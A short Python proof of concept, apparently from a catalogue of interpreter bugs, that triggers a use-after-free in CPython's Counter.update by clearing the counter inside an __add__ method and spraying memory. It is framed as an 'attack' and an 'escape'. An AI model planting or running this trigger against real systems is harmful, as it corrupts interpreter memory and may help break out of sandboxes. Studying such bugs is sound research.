"""Class: memory. Source: CPython issue 143004. Escape: a count is taken out of its Counter while it is added
to; the memory it was in is read as an object again. Teeth: none, freed memory shows itself only by
chance."""

from collections import Counter


class Count:
    def __add__(self, other):
        counter.clear()
        del self
        kept.extend([bytes(40) for _ in range(50)])
        return NotImplemented


counter = Counter()
kept = []


def attack(model, tokenizer, address):
    for _ in range(1000):
        counter["a"] = Count()
        try:
            counter.update(["a"])
        except TypeError:
            pass
